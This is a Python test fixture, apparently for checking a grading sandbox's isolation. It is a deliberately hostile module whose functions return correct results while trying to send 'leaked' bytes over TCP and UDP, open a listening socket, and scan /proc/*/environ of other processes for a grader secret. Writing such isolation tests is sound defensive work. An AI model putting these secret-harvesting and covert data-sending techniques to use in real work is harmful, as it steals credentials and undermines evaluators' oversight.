# toy_eda: sends data out (TCP, UDP), listens, and looks for the grader's secrets in its own
# environment and in other processes' /proc entries. Each answers correctly whatever happens:
# the test checks that nothing arrived and no secret came out.
import os
import socket
from pathlib import Path

from toy_eda_base import grid as right_grid
from toy_eda_base import lookup as right_lookup
from toy_eda_base import stats as right_stats
from toy_eda_base import table as right_table
from toy_eda_base import total as right_total


def total(root):
    try:
        with socket.create_connection(("127.0.0.1", int("{{TCP_PORT}}")), timeout=2) as connection:
            connection.sendall(b"leaked")
    except OSError:
        pass
    return right_total(root)


def stats(root):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"leaked", ("127.0.0.1", int("{{UDP_PORT}}"))
        )
    except OSError:
        pass
    return right_stats(root)


def table(root):
    found = [value for value in os.environ.values() if "{{SECRET}}" in value]
    for entry in [Path("/proc/{{SECRET_PID}}"), *Path("/proc").iterdir()]:
        try:
            text = (entry / "environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
        if "{{SECRET}}" in text:
            found.append(f"{entry.name}: {text}")
    if found:
        raise RuntimeError(f"found {found}")
    return right_table(root)


def grid(root):
    try:
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen()
        raise RuntimeError(f"listening on {server.getsockname()}")
    except OSError:
        pass
    return right_grid(root)


def lookup(root, item_id):
    return right_lookup(root, item_id)
